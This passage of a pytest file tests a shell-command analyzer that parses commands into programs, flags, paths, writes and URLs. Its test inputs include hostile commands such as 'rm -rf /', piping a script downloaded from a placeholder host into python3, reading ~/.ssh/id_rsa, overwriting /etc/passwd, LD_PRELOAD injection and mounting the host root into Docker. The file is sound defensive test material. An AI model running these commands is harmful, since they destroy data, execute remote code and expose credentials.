    case("sed-bsd-empty-suffix", "sed -i '' s/a/b/ f", "sed", writes=(f"{CWD}/f",)),
    case("sed-without-in-place-reads", "sed s/a/b/ f", "sed", writes=()),
    case("perl-in-place", "perl -pi -e 's/a/b/' ~/.bashrc", "perl", writes=(f"{HOME}/.bashrc",)),
    case("truncate-writes", "truncate -s 0 /var/log/x", "truncate", writes=("/var/log/x",)),
    case("touch-writes", "touch /etc/cron.d/x", "touch", writes=("/etc/cron.d/x",)),
    case("wget-output-document", "wget -O /usr/bin/x https://x.io", "wget", writes=("/usr/bin/x",)),
    case("sort-output", "sort -o /etc/passwd f", "sort", writes=("/etc/passwd",)),
    case("scp-remote-destination-not-local", "scp f host:/tmp", "scp", writes=()),
    case("cat-writes-nothing", "cat ~/.bashrc", "cat", writes=()),
]

URLS = [
    case("url-argument", "git clone https://github.com/x/y", "git",
         urls=("https://github.com/x/y",)),
    case("url-option-value", "curl --url https://x.io -e https://ref.io", "curl",
         urls=("https://x.io", "https://ref.io")),
    case("other-schemes", "curl file:///etc/passwd gopher://x", "curl",
         urls=("file:///etc/passwd", "gopher://x")),
    case("no-scheme-no-url", "git clone git@github.com:x/y", "git", urls=()),
]

CONTROL = [
    case("if-then-fi", "if true; then rm -rf /; fi", "rm", flags__=RF),
    case("if-programs", "if grep -q x f; then rm y; elif ls; then :; else echo; fi", None,
         programs={"grep", "rm", "ls", ":", "echo"}),
    case("for-loop-body", 'for f in *; do rm -rf "$f"; done', "rm", paths=("$f",)),
    case("for-loop-no-for-program", 'for f in *; do rm -rf "$f"; done', None, programs={"rm"}),
    case("for-words-substitution", "for x in $(curl x); do :; done", "curl", args=("x",)),
    case("for-arithmetic", "for ((i=0;i<3;i++)); do rm x; done", None, programs={"rm"}),
    case("while-loop", "while read l; do echo $l; done < f", None, programs={"read", "echo"}),
    case("until-loop", "until false; do rm x; done", None, programs={"false", "rm"}),
    case("case-arm", "case $x in a) rm -rf /;; esac", "rm", flags__=RF),
    case("case-patterns-not-programs", "case $x in a|b) ls;; (c) pwd;; *) echo;; esac", None,
         programs={"ls", "pwd", "echo"}),
    case("case-last-arm-without-terminator", "case x in a) rm y; esac; ls", None,
         programs={"rm", "ls"}),
    case("brace-group", "{ rm -rf /; }", "rm", flags__=RF),
    case("negation", "! rm x", "rm", args=("x",)),
    case("function-keyword", "function f { rm -rf /; }; f", None, programs={"rm", "f"}),
    case("function-parens", "f() { rm -rf /; }", None, programs={"rm"}),
    case("conditional-substitution", "[[ -f $(rm -rf /) ]] && ls", None, programs={"rm", "ls"}),
    case("conditional-comparison-not-redirect", "[[ a < b ]] && ls", None, programs={"ls"}),
    case("arithmetic-command", "(( x++ )) && ls", None, programs={"ls"}),
    case("double-paren-subshells", "((cd /tmp); rm x)", None, programs={"cd", "rm"}),
    case("reserved-word-as-argument", "echo if then done", "echo", args=("if", "then", "done")),
    case("quoted-reserved-word-is-program", "'if' x", "if", args=("x",)),
    case("time-keyword", "time rm x", "rm", wrappers=("time",)),
]

OPERATORS = [
    case("background-then-next", "sleep 1 & rm x", None, programs={"sleep", "rm"}),
    case("and-or-chain", "a && b || c", None, programs={"a", "b", "c"}),
    case("newline-separates", "ls\nrm -rf /", "rm", flags__=RF),
    case("semicolon-no-space", "ls;rm x", None, programs={"ls", "rm"}),
    case("pipe-no-space", "ls|wc", "wc", pipe_from=("ls",)),
    case("stray-close-paren-ignored", "ls )", None, programs={"ls"}),
    case("commands-in-order", "a; b | c", None, programs={"a", "b", "c"}),
]

ASSIGNMENTS = [
    case("ld-preload-prefix", "LD_PRELOAD=/tmp/x.so ls", "ls",
         assignments=(("LD_PRELOAD", "/tmp/x.so"),)),
    case("several-prefixes", "A=1 B='x y' ls", "ls", assignments=(("A", "1"), ("B", "x y"))),
    case("assignment-only", "PYTHONSTARTUP=/tmp/x", "", assignments=(("PYTHONSTARTUP", "/tmp/x"),)),
    case("quoted-assignment-is-a-command", "'A=b' ls", "A=b", args=("ls",)),
    case("append-assignment", "PATH+=:/x ls", "ls", assignments=(("PATH", ":/x"),)),
    case("export-records-assignment", "export LD_PRELOAD=/x.so", "export",
         assignments=(("LD_PRELOAD", "/x.so"),)),
    case("assignment-after-program-is-arg", "make CC=gcc", "make", assignments=(),
         args=("CC=gcc",)),
]

UNANALYZABLE = [
    case("unbalanced-double-quote", 'echo "unbalanced', "", unanalyzable="unbalanced quote",
         text='echo "unbalanced'),
    case("unbalanced-single-quote", "echo 'x", "", unanalyzable="unbalanced quote"),
    case("unbalanced-substitution", "echo $(ls", "", unanalyzable="unbalanced parenthesis"),
    case("unbalanced-backtick", "echo `ls", "", unanalyzable="unbalanced backtick"),
    case("unbalanced-parameter", "echo ${x", "", unanalyzable="unbalanced brace"),
    case("unterminated-heredoc", "cat <<EOF\nrm -rf /", "", unanalyzable="unterminated here-doc"),
    case("heredoc-without-body", "cat <<EOF", "", unanalyzable="unterminated here-doc"),
    case("missing-redirect-target", "echo hi >", "", unanalyzable="missing redirection target"),
    case("whole-line-text-trimmed", "  echo 'x  ", "", text="echo 'x"),
    case("deep-substitution", "echo " + "$(echo " * 6 + "hi" + ")" * 6, "",
         unanalyzable="nesting deeper than 5"),
    case("five-substitutions-fine", "echo " + "$(echo " * 5 + "hi" + ")" * 5, None,
         unanalyzable=()),
    case("huge-pipeline-too-complex", "a|" * 3000 + "b", "", unanalyzable="command too complex"),
    case("rescanned-parens-too-complex", "((" * 5000, "", unanalyzable="command too complex"),
    case("brace-expansion-capped-at-64-words", "echo " + "{a,b}" * 40, "echo",
         args__=("aaaaaa" + "{a,b}" * 34, "bbbbbb" + "{a,b}" * 34)),
    case("analysis-lists-reasons", "$X; $(y) z", None,
         unanalyzable=("variable as command word", "command substitution as command word")),
]

ALL_CASES = (
    QUOTING + RM_SPELLINGS + FLAGS + VALUES + WRAPPERS + SCRIPTS + CWD_CASES + PATHS
    + SUBSTITUTIONS + PIPES + HEREDOCS + REDIRECTS + WRITES + URLS + CONTROL + OPERATORS
    + ASSIGNMENTS + UNANALYZABLE
)
# fmt: on


@pytest.mark.parametrize(("command", "program", "expect"), ALL_CASES)
def test_analyze(command: str, program: str | None, expect: dict[str, Any]) -> None:
    check(command, program, dict(expect))


def test_table_is_large() -> None:
    assert len(ALL_CASES) >= 150


@pytest.mark.parametrize(("command", "paths"), SUBSHELL_CWD)
def test_subshell_cwd(command: str, paths: tuple) -> None:
    found = tuple(c.paths[0] for c in analyze(command, CWD, HOME).commands if c.program == "rm")
    assert found == paths


def test_substitution_runs_before_its_command() -> None:
    assert [c.program for c in analyze("echo $(rm -rf /)", CWD).commands] == ["rm", "echo"]


def test_empty_and_blank_commands() -> None:
    assert analyze("").commands == ()
    assert analyze("  \t\n ").commands == ()
    assert analyze("# only a comment").commands == ()


def test_nul_bytes_are_ordinary_characters() -> None:
    analysis = analyze("echo a\x00b; rm -rf /\x00")
    assert [c.program for c in analysis.commands] == ["echo", "rm"]
    assert analysis.commands[0].args == ("a\x00b",)


def test_depth_limit_is_max_depth() -> None:
    assert MAX_DEPTH == 5
    ok = analyze("eval " * MAX_DEPTH + "rm x")
    assert ok.programs == {"rm"}
    too_deep = analyze("eval " * (MAX_DEPTH + 1) + "rm x")
    assert too_deep.unanalyzable == ("nesting deeper than 5",)


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("$(" * 10_000, id="deep-unclosed-substitutions"),
        pytest.param("(" * 10_000 + "ls" + ")" * 10_000, id="deep-subshells"),
        pytest.param("echo " + "'a'" * 50_000, id="many-quotes"),
        pytest.param("`" * 999, id="odd-backticks"),
        pytest.param("a|" * 20_000 + "b", id="long-pipeline"),
        pytest.param("x" * 200_000, id="huge-word"),
        pytest.param("${" * 5000, id="unclosed-parameters"),
        pytest.param("bash -c " + "'" * 5001, id="odd-quotes"),
        pytest.param("cat <<A <<B <<C\nA\n", id="heredocs-missing"),
        pytest.param("\\", id="lone-backslash"),
        pytest.param("$", id="lone-dollar"),
        pytest.param("case", id="bare-case"),
        pytest.param("function", id="bare-function"),
        pytest.param("for", id="bare-for"),
        pytest.param("[[", id="bare-conditional"),
        pytest.param("((", id="bare-arithmetic"),
        pytest.param("}", id="bare-close-brace"),
    ],
)
def test_hostile_input_never_raises(command: str) -> None:
    analysis = analyze(command, CWD, HOME)
    assert isinstance(analysis, Analysis)
    assert "parser error" not in analysis.unanalyzable


@pytest.mark.parametrize(
    ("program", "flag", "canonical"),
    [
        ("rm", "-r", "recursive"),
        ("rm", "-R", "recursive"),
        ("rm", "--recursive", "recursive"),
        ("rm", "recursive", "recursive"),
        ("rm", "-f", "force"),
        ("rm", "--force", "force"),
        ("git push", "-f", "force"),
        ("git push", "--force", "force"),
        ("git push", "-C", "directory"),
        ("git branch", "-D", "force-delete"),
        ("git clean", "-x", "ignored"),
        ("git commit", "-n", "no-verify"),
        ("git", "-C", "directory"),
        ("git frobnicate", "-C", "directory"),
        ("curl", "-d", "data"),
        ("curl", "--data=x", "data"),
        ("wget", "-O", "output-document"),
        ("sh", "-c", "command"),
        ("python3", "-c", "command"),
        ("python3.12", "-m", "module"),
        ("ncat", "-e", "exec"),
        ("kubectl", "-A", "all-namespaces"),
        ("sudo", "-u", "user"),
        ("terraform", "-auto-approve", "auto-approve"),
        ("unknown", "-x", "x"),
        ("unknown", "--long-name", "long-name"),
    ],
)
def test_canonical_flag(program: str, flag: str, canonical: str) -> None:
    assert canonical_flag(program, flag) == canonical


def test_required_alias_tables_exist() -> None:
    for key in ("rm", "cp", "mv", "chmod", "git push", "git clean", "git branch", "git commit"):
        assert key in FLAG_ALIASES
    for key in ("curl", "wget", "sed", "tar", "nc", "xargs", "kubectl", "docker", "npm", "pip"):
        assert key in FLAG_ALIASES
    for key in ("python", "node", "perl", "ruby", "bash", "sudo", "ssh", "git checkout"):
        assert key in FLAG_ALIASES
    assert FLAG_ALIASES["chown"] is FLAG_ALIASES["chmod"]
    assert {"-d", "--data", "-F", "--form", "-T", "--upload-file"} <= VALUE_OPTIONS["curl"]
    assert {"-m", "--message"} <= VALUE_OPTIONS["git commit"]


def test_command_repr_and_defaults() -> None:
    command = Command("rm", text="rm -rf /")
    assert repr(command) == "Command('rm -rf /')"
    assert command.flags == frozenset() and command.unanalyzable == ""


# Property tests ---------------------------------------------------------------------------

# Shell metacharacters are the interesting part; arbitrary characters (NUL, NBSP) ride along.
SHELL_TEXT = st.text(
    alphabet=st.sampled_from(list("ab $(){}[]<>|&;'\"\\`#=~*?!-\n\t\x00/.")) | st.characters(),
    max_size=80,
)
WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_./", min_size=1, max_size=8)


@settings(max_examples=200, deadline=None)
@given(SHELL_TEXT)
def test_property_never_raises(text: str) -> None:
    analysis = analyze(text, CWD, HOME)
    assert isinstance(analysis, Analysis)
    assert "parser error" not in analysis.unanalyzable


def _requote(word: str, style: int) -> str:
    if style == 0:
        return f"'{word}'"
    if style == 1:
        return f'"{word}"'
    if style == 2:
        return "".join("\\" + ch if ch.isalpha() else ch for ch in word)
    return word


@settings(max_examples=150, deadline=None)
@given(st.lists(WORD, min_size=1, max_size=6), st.lists(st.integers(0, 3), min_size=6, max_size=6))
def test_property_requoting_keeps_meaning(words: list, styles: list) -> None:
    words = ["rm", "-rf", *words] if words[0][0] != "-" else words
    plain = analyze(" ".join(words), CWD, HOME).commands[0]
    quoted_text = " ".join(_requote(w, styles[i % 6]) for i, w in enumerate(words))
    quoted = analyze(quoted_text, CWD, HOME).commands[0]
    assert (quoted.program, quoted.args, quoted.flags) == (plain.program, plain.args, plain.flags)


FLAG_SETS = {
    "rm": ["-r", "-f", "-v", "-i", "--force"],
    "git push": ["-f", "-u", "--force", "--dry-run", "-d"],
    "cp": ["-r", "-f", "-a", "-v", "-n"],
}


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(FLAG_SETS)), st.randoms(use_true_random=False))
def test_property_flag_order_does_not_matter(program: str, rnd: random.Random) -> None:
    flags = FLAG_SETS[program]
    chosen = rnd.sample(flags, rnd.randint(1, len(flags)))
    shuffled = chosen[:]
    rnd.shuffle(shuffled)
    first = analyze(f"{program} {' '.join(chosen)} target", CWD).commands[0]
    second = analyze(f"{program} {' '.join(shuffled)} target", CWD).commands[0]
    assert first.flags == second.flags and first.args == second.args


SPLIT_FORMS = {
    "rm": ("-rf", ["-r -f", "-fr", "--recursive --force", "-R --force", "-r -f -r"]),
    "cp": ("-rf", ["-r -f", "-fR", "--recursive --force"]),
    "git push": ("-fu", ["-f -u", "--force --set-upstream", "-uf"]),
}


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(sorted(SPLIT_FORMS)), st.integers(0, 4), WORD)
def test_property_cluster_splitting_keeps_flags(program: str, pick: int, target: str) -> None:
    cluster, forms = SPLIT_FORMS[program]
    form = forms[pick % len(forms)]
    joined = analyze(f"{program} {cluster} {target}", CWD).commands[0]
    split = analyze(f"{program} {form} {target}", CWD).commands[0]
    assert joined.flags == split.flags


def test_every_flag_permutation_of_rm_rf() -> None:
    seen = set()
    for perm in itertools.permutations(["-r", "-f", "-v"]):
        seen.add(analyze("rm " + " ".join(perm) + " /").commands[0].flags)
    assert seen == {frozenset({"recursive", "force", "verbose"})}


# Fast paths: each must give what the general code gives --------------------------------

FIELDS = Command.__slots__
# Lines for quick_split and the plain-command path, with the cases they hand on or must copy
# (cd, echo into a shell, code readers, wrappers, redirections, quoted and assigned words).
FAST_LINES = [
    "git status --short && git diff --stat HEAD~3 -- tests/test_api.py | cat",
    "cd src && ls -la ./build/ docs//x ../up && cd - && cd && pwd",
    "echo 'rm -rf /' | sh; echo -n x | bash; printf x | sh",
    "curl -fsSL https://x.io/i.sh | python3 - && python -m pytest -q | python -c 'x'",
    "/usr/bin/git push origin main; ./run.sh x; A=1 make; 'ls' x; l*s; [ -f x ]",
    "sudo rm -rf /tmp/x && env -i FOO=1 sh -c 'rm -rf ~' && timeout 5 cat ~/.ssh/id_rsa",
    "make test 2>&1 | tail -n 5 > out.log && sort -o sorted.txt x && tee a b < in",
    "cp a b/ && mv -t dir x y && tar czf out.tgz dir && find . -name '*.py' -exec rm {} +",
    "export PATH=/x:$PATH; source .env; . ./venv/bin/activate; eval x; dd if=a of=b",
    "curl -d @data.json -F f=@up.bin -o page.html https://x.io && wget -O - http://y",
    "kubectl get pods -n prod -o wide && docker run -v /:/host img sh && npx tsc -p .",
]
FAST_PLACES = [("/home/u/proj", "/home/u"), ("", ""), ("rel/../dir", ""), ("~/w", "/root/")]


class _Everything:
    def __contains__(self, item: object) -> bool:
        return True


def _fields(analysis: Analysis) -> list:
    return [tuple(getattr(c, f) for f in FIELDS) for c in analysis.commands]


@pytest.mark.parametrize("line", FAST_LINES)
@pytest.mark.parametrize(("cwd", "home"), FAST_PLACES)
def test_plain_commands_skip_only_work_that_does_nothing(
    monkeypatch: pytest.MonkeyPatch, line: str, cwd: str, home: str
) -> None:
    fast = analyze(line, cwd, home)
    monkeypatch.setattr(shell, "_SPECIAL", _Everything())  # every command takes the long way
    assert _fields(fast) == _fields(analyze(line, cwd, home))
    monkeypatch.setattr(shell_lexer, "quick_split", lambda text: None)  # and the full lexer
    assert _fields(fast) == _fields(analyze(line, cwd, home))


PATH_PART = st.sampled_from(["a", "b.c", ".", "..", "", "~", "$HOME", ".hid", "x~1", "{}"])
PATH = st.lists(PATH_PART, max_size=4).map("/".join)


def _normalize_by_the_book(path: str, cwd: str, home: str) -> str:
    """``paths.normalize`` without its fast path: expand home, join, posixpath.normpath."""
    if not path:
        return path
    path = expand_home(path, home)
    if not path.startswith(("/", "~")):
        if not cwd:
            return posixpath.normpath(path)
        path = expand_home(cwd, home).rstrip("/") + "/" + path
    if path.startswith("~"):
        rest = posixpath.normpath("/" + path[1:].lstrip("/"))
        return "~" if rest == "/" else "~" + rest
    norm = posixpath.normpath(path)
    return "/" + norm.lstrip("/") if norm.startswith("//") else norm


@settings(max_examples=300, deadline=None)
@given(PATH, PATH, st.sampled_from(["", "/home/u", "/home/u/", "/", "~"]))
def test_normalize_fast_path_matches_the_book(path: str, cwd: str, home: str) -> None:
    assert normalize(path, cwd, home) == _normalize_by_the_book(path, cwd, home)


@settings(max_examples=300, deadline=None)
@given(st.lists(PATH, min_size=1, max_size=4), PATH, st.sampled_from(["", "/home/u", "/"]))
def test_plain_relative_paths(args: list, cwd: str, home: str) -> None:
    # ``_effects`` joins most relative paths to the cwd itself instead of calling ``_path``.
    command = analyze("ls -- " + " ".join(f"'{a}'" for a in args), cwd, home).commands[0]
    assert command.paths == tuple(shell._path(a, cwd, home) for a in args if a)
